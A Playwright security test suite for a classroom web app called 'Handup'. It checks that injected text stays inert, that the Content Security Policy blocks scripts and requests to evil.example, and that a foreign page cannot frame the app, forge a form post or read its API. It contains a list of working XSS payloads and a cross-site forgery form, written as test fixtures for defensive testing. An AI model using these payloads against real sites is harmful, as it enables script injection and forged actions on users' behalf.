// What somebody with bad intentions can make a browser do: by what they type, by an address they
// send, and from a page of their own.

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Page } from "@playwright/test";
import { expect, test } from "./class.ts";
import { Lesson } from "./lesson.ts";
import type { Handup } from "./server.ts";

const PASSWORD = "correct horse battery";

/** Texts that would run if anything took them for more than text; each fits into a name. */
const HOSTILE = [
  `<img src=x onerror="window.__xss=1">`,
  `"><svg onload=window.__xss=1>`,
  `'><body onpageshow=window.__xss=1>`,
  `</script><script>window.__xss=1</script>`,
  `</title><script>window.__xss=1</script>`,
  `<!--><script>window.__xss=1</script-->`,
  `" autofocus onfocus="window.__xss=1`,
  `</textarea><iframe src=javascript:parent.__xss=1>`,
  "javascript:window.__xss=1",
  "{{constructor.constructor('window.__xss=1')()}}",
  "\u2028window.__xss=1//",
];
const ALL = HOSTILE.join(" ");

declare global {
  interface Window {
    __xss?: number;
  }
}

/** What a page of Handup never has, wherever a text went. */
async function isHarmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(() => {
    const elements = [...document.querySelectorAll("*")];
    return {
      ran: window.__xss,
      // Only the pages themselves bring scripts, and a browser hides the nonces of those that may run.
      scripts: elements.filter(
        (it) => it instanceof HTMLScriptElement && !it.nonce && it.type !== "application/json",
      ).length,
      handlers: elements.flatMap((it) => it.getAttributeNames().filter((name) => /^on/i.test(name))),
      strange: elements.filter((it) =>
        it.matches(`img[src="x"], iframe[src^="javascript:"], a[href^="javascript:"], svg[onload]`),
      ).length,
    };
  });
  expect(found, where).toEqual({ ran: undefined, scripts: 0, handlers: [], strange: 0 });
}

/** A browser that tells of every dialog and of every script that fails. */
async function watched(browser: Browser, told: string[]): Promise<BrowserContext> {
  const context = await browser.newContext();
  context.on("weberror", (error) => told.push(error.error().message));
  context.on("dialog", (dialog) => {
    told.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on("console", (message) => {
    // The browser says so when the policy had to stop something that got into the page.
    if (/Content Security Policy/.test(message.text())) told.push(message.text());
  });
  return context;
}

async function becomeAdmin(page: Page, handup: Handup): Promise<void> {
  const link = [...handup.log.matchAll(/password: (\S+)/g)].at(-1)?.[1];
  await page.goto(link ?? "");
  await page.getByLabel("New password").fill(PASSWORD);
  await page.getByRole("button", { name: "Set the password" }).click();
  await expect(page.getByRole("heading", { name: "All classes" })).toBeVisible();
}

/** A class in which everything that somebody can write is hostile. */
async function hostileClass(handup: Handup, page: Page) {
  const { request } = page;
  // The cookie of the page would be another's credential beside the token.
  const [name = "", teacherName = "", ...names] = HOSTILE.slice(3).concat(HOSTILE.slice(0, 3));
  const lesson = await Lesson.begin(request, name, teacherName);
  const { teacher } = lesson;
  const students = [];
  for (const student of names) students.push(await lesson.join(student));
  const [ada, bo] = students;
  if (!ada || !bo) throw new Error("two have joined");
  await teacher.lendTo(page.context(), handup.url);
  return { lesson, teacher, ada, bo };
}

/** Goes to an address. The page before may begin a download just then, which ends the way there. */
async function visit(page: Page, url: string, waitUntil: "load" | "domcontentloaded" = "load") {
  await expect(() => page.goto(url, { waitUntil })).toPass();
}

test("what is typed is text on every page that shows it", { tag: "@once" }, async ({ browser, handup }) => {
  const told: string[] = [];
  const desk = await (await watched(browser, told)).newPage();
  await desk.goto(`${handup.url}/`);
  await becomeAdmin(desk, handup);
  const { request } = desk;
  const base = await browser.newContext({ baseURL: handup.url });
  const outside = await base.newPage();
  const { lesson, teacher, ada, bo } = await hostileClass(handup, outside);
  await teacher.lendTo(desk.context(), handup.url);
  const phone = await (await watched(browser, told)).newPage();
  await ada.lendTo(phone.context(), handup.url);

  // Live: both pages are open while it happens, so it is their scripts that show it.
  const room = `${handup.url}/class/${lesson.group}`;
  await desk.goto(room);
  await phone.goto(room);
  for (const page of [desk, phone]) {
    await expect(page.locator("[data-connection]")).toHaveAttribute("data-connection", "live");
  }
  const late = await lesson.join(HOSTILE[0] ?? "");
  const round = await teacher.ask(ALL);
  await expect(phone.getByText(ALL)).toBeVisible();
  await ada.accept(round, ALL);
  await bo.reject(round, ALL);
  await late.accept(round, ALL);
  const turn = await teacher.callOn(ada);
  await ada.accept(turn, ALL);
  const speaking = desk.getByRole("region", { name: "Speaking" }).getByRole("listitem");
  await expect(speaking).toHaveCount(1);
  await ada.finishFor(turn, `${HOSTILE[0]} ${HOSTILE[1]}`);
  const call = await teacher.call(bo, ALL, "video");
  await bo.reject(call, ALL);
  await expect(speaking).toHaveCount(0);
  for (const page of [desk, phone]) await isHarmless(page, "the live room");

  // Rendered by the server, for whoever may read it.
  const group = `/class/${lesson.group}`;
  for (const path of [
    "/",
    `/join/${lesson.joinCode}`,
    group,
    `${group}/history`,
    `${group}/history/person/${ada.id}`,
    `${group}/history/export?format=json`,
    "/admin",
    `/admin?name=${encodeURIComponent(lesson.name)}`,
    `/admin${group}`,
    `/admin${group}/person/${ada.id}`,
    `/admin${group}/person/${bo.id}`,
  ]) {
    await visit(desk, `${handup.url}${path}`);
    await isHarmless(desk, path);
    expect(await desk.innerText("body"), path).toContain(lesson.name);
  }
  for (const path of [group, `${group}/me`]) {
    await phone.goto(`${handup.url}${path}`);
    await isHarmless(phone, path);
  }
  expect(await phone.innerText("body")).toContain(HOSTILE[0]);

  // What a browser is to save it must not show, whatever is in it.
  for (const [file, type] of [
    [`${group}/history/export.csv`, "text/csv; charset=utf-8"],
    [`${group}/history/export.json`, "application/json"],
    [`/admin${group}/export.csv`, "text/csv; charset=utf-8"],
    ["/admin/export.json", "application/json"],
  ] as const) {
    const answer = await request.get(`${handup.url}${file}`);
    expect(answer.status(), file).toBe(200);
    const headers = answer.headers();
    expect(headers["content-type"], file).toBe(type);
    expect(headers["x-content-type-options"], file).toBe("nosniff");
    expect(headers["content-disposition"], file).toMatch(/^attachment; filename="handup-[a-z0-9.-]+"$/);
    expect(await answer.text(), file).toContain("window.__xss=1");
  }
  expect(told).toEqual([]);
});

test("an address can carry nothing into a page but text", { tag: "@once" }, async ({ browser, handup }) => {
  const told: string[] = [];
  const page = await (await watched(browser, told)).newPage();
  await page.goto(`${handup.url}/`);
  await becomeAdmin(page, handup);
  const outside = await (await browser.newContext({ baseURL: handup.url })).newPage();
  const { lesson, teacher } = await hostileClass(handup, outside);
  await teacher.lendTo(page.context(), handup.url);
  const group = `/class/${lesson.group}`;
  const query = (fields: string) => (text: string) =>
    `?${fields.split(" ").map((field) => `${field}=${encodeURIComponent(text)}`).join("&")}`;
  const everyField = query("problem name teacher code question from until after keep done format run person");
  const troubled = (problem: string) => (text: string) =>
    `?problem=${problem}&${everyField(text).slice(1)}`;
  const addresses = [
    (text: string) => `/start${troubled("name-long")(text)}`,
    (text: string) => `/start${troubled("class-name-long")(text)}`,
    (text: string) => `/join${troubled("code")(text)}`,
    (text: string) => `/join/${lesson.joinCode}${troubled("name-strange")(text)}`,
    (text: string) => `/join/${encodeURIComponent(text)}`,
    (text: string) => `${group}${troubled("question-long")(text)}`,
    (text: string) => `${group}/history${everyField(text)}`,
    (text: string) => `${group}/history/person/${encodeURIComponent(text)}`,
    (text: string) => `${group}/history/export${everyField(text)}`,
    (text: string) => `/class/${encodeURIComponent(text)}`,
    (text: string) => `/handover/${encodeURIComponent(text)}`,
    (text: string) => `/admin${everyField(text)}`,
    (text: string) => `/admin/set-up/${encodeURIComponent(text)}${everyField(text)}`,
    (text: string) => `/admin/class/${encodeURIComponent(text)}`,
    (text: string) => `/admin/export${everyField(text)}`,
    (text: string) => `/export/progress${everyField(text)}`,
    (text: string) => `/${encodeURIComponent(text)}${everyField(text)}`,
    (text: string) => `/?__path=${encodeURIComponent(text)}&__err=${encodeURIComponent(text)}`,
    (text: string) => `/api/v1/groups/${encodeURIComponent(text)}`,
  ];
  for (const address of addresses) {
    // All at once, and the one that breaks out of an attribute alone.
    for (const text of [ALL, HOSTILE[6] ?? ""]) {
      const path = address(text);
      await visit(page, `${handup.url}${path}`, "domcontentloaded");
      await isHarmless(page, path);
    }
  }
  // What was typed comes back into the field it was typed in, and nowhere else.
  await page.goto(`${handup.url}${addresses[0]?.(HOSTILE[6] ?? "")}`);
  await expect(page.getByLabel("Class name")).toHaveValue(HOSTILE[6] ?? "");
  expect(told).toEqual([]);
});

/** What the policy stops on every page. */
const DIRECTIVES = [
  "script-src-elem",
  "script-src-attr",
  "img-src",
  "style-src-attr",
  "frame-src",
  "base-uri",
  "object-src",
  "connect-src",
];

test("a script that got into a page would not run", { tag: "@once" }, async ({ browser, handup, request }) => {
  const lesson = await Lesson.begin(request, "Biology 9B");
  const context = await browser.newContext({ baseURL: handup.url });
  await lesson.teacher.lendTo(context, handup.url);
  const page = await context.newPage();
  for (const path of ["/", `/class/${lesson.group}`, `/class/${lesson.group}/history`]) {
    await page.goto(path);
    // Some are told at once, others when the browser gets to it: all of them have to be.
    await page.evaluate(async (directives) => {
      const missing = new Set(directives);
      const stopped = new Promise<void>((resolve) => {
        addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          missing.delete(effectiveDirective);
          if (missing.size === 0) resolve();
        });
      });
      const add = <Name extends keyof HTMLElementTagNameMap>(
        name: Name,
        change: (element: HTMLElementTagNameMap[Name]) => void,
      ) => {
        const element = document.createElement(name);
        change(element);
        document.body.append(element);
        return element;
      };
      add("script", (it) => it.append("window.__xss = 1"));
      add("script", (it) => (it.src = "https://evil.example/x.js"));
      add("button", (it) => it.setAttribute("onclick", "window.__xss = 1")).click();
      add("img", (it) => (it.src = "https://evil.example/x.png"));
      add("p", (it) => it.setAttribute("style", "color: red"));
      add("iframe", (it) => (it.src = "https://evil.example/"));
      add("base", (it) => (it.href = "https://evil.example/"));
      add("object", (it) => (it.data = "https://evil.example/"));
      await fetch("https://evil.example/").catch(() => undefined);
      const patience = new Promise<void>((_, reject) => {
        setTimeout(() => reject(new Error(`not stopped: ${[...missing].join()}`)), 10_000);
      });
      await Promise.race([stopped, patience]);
    }, DIRECTIVES);
    expect(await page.evaluate(() => window.__xss), path).toBeUndefined();
  }
});

/** A site of somebody else's, with one page. */
async function siteOf(html: string): Promise<{ url: string; server: Server }> {
  const server = createServer((_, answer) => {
    answer.setHeader("content-type", "text/html");
    answer.end(`<!DOCTYPE html>${html}`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  // Handup is at 127.0.0.1, so this is another site to a browser.
  return { url: `http://localhost:${(server.address() as AddressInfo).port}/`, server };
}

test("a page of another site can neither frame, read nor press anything", { tag: "@once" }, async ({
  browser,
  handup,
  request,
}) => {
  const lesson = await Lesson.begin(request, "Biology 9B");
  const context = await browser.newContext({ baseURL: handup.url });
  await lesson.teacher.lendTo(context, handup.url);
  const group = lesson.group;
  const { url, server } = await siteOf(`
    <iframe name="framed" src="${handup.url}/class/${group}"></iframe>
    <iframe name="answer"></iframe>
    <form method="post" target="answer" action="${handup.url}/do/act">
      <input name="group" value="${group}"><input name="deed" value="lock">
    </form>`);
  try {
    const page = await context.newPage();
    await page.goto(url, { waitUntil: "load" });
    // The browser's own page stands there instead. (The frame's name may be gone with its site.)
    const framed = page.frameLocator("iframe[name=framed]").locator("body");
    await expect(framed).toContainText("refused to connect");
    await expect(framed).not.toContainText("Biology 9B");

    const answered = page.waitForResponse((it) => it.url().endsWith("/do/act"));
    await page.evaluate(() => document.forms[0]?.submit());
    expect((await answered).status()).toBe(403);

    const read = await page.evaluate(
      async ([origin, group]) => {
        const tried = async (path: string, options: RequestInit) => {
          try {
            const answer = await fetch(`${origin}${path}`, { credentials: "include", ...options });
            return `${answer.type} ${await answer.text()}`;
          } catch {
            return "refused";
          }
        };
        const listened = await new Promise((resolve) => {
          const address = `${origin}/api/v1/groups/${group}/events`;
          const source = new EventSource(address, { withCredentials: true });
          source.onmessage = () => resolve("heard");
          source.onerror = () => resolve("refused");
        });
        const change = { method: "PATCH", body: '{"name":"Harm"}' };
        const blind = { method: "POST", body: '{"data":""}', mode: "no-cors" } as const;
        return [
          await tried(`/class/${group}`, {}),
          await tried(`/api/v1/groups/${group}`, {}),
          await tried(`/api/v1/groups/${group}`, change),
          await tried(`/api/v1/groups/${group}/end`, blind),
          listened,
        ];
      },
      [handup.url, group] as const,
    );
    expect(read).toEqual(["refused", "refused", "refused", "refused", "refused"]);
  } finally {
    server.close();
  }
  const after = await context.newPage();
  await after.goto(`/class/${group}`);
  await expect(after).toHaveTitle(/^Biology 9B/);
  await expect(after.getByText(/locked/i)).toBeHidden();
});
